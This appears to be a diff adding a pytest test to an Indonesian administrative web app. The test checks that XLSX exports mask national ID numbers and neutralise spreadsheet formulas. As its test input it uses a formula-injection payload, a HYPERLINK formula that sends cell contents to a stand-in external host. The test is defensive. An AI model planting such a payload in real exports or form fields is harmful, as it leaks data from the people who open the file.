@@ -121,3 +121,25 @@ def test_sudin_sees_the_audit_of_their_city_only(login, sysdb):
     html = s.get("/log-audit/list/?psize_AuditEventView=500").get_data(as_text=True)
     assert f"/log-audit/show/{foreign}\"" not in html
     assert login("camat.kebonjeruk").get("/log-audit/list/").status_code == 403
+
+
+def test_exports_mask_the_nik_and_never_carry_formulas(login, sysdb):
+    import io
+
+    from openpyxl import load_workbook
+
+    m = member_of(sysdb)
+    s = login("sekretaris.kebonjeruk")
+    form = {"organ": m.organ, "position": m.position, "name": '=HYPERLINK("http://x.example/?"&A1,"klik")',
+            "nik": "", "gender": m.gender, "term_start": m.term_start.isoformat(),
+            "term_end": m.term_end.isoformat(), "phone": "+62 812 3456"}
+    assert s.post(f"/pengurus-pengawas/edit/{m.id}", form).status_code == 302
+    r = s.get("/pengurus-pengawas/export/xlsx")
+    assert r.status_code == 200
+    wb = load_workbook(io.BytesIO(r.data))
+    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
+    texts = [str(c.value) for c in cells]
+    assert m.nik not in "\n".join(texts) and mask_nik(m.nik) in texts
+    hyperlink = [c for c in cells if "HYPERLINK" in str(c.value)][0]
+    assert hyperlink.data_type == "s" and str(hyperlink.value).startswith("'=")
+    assert all(c.data_type != "f" for c in cells)
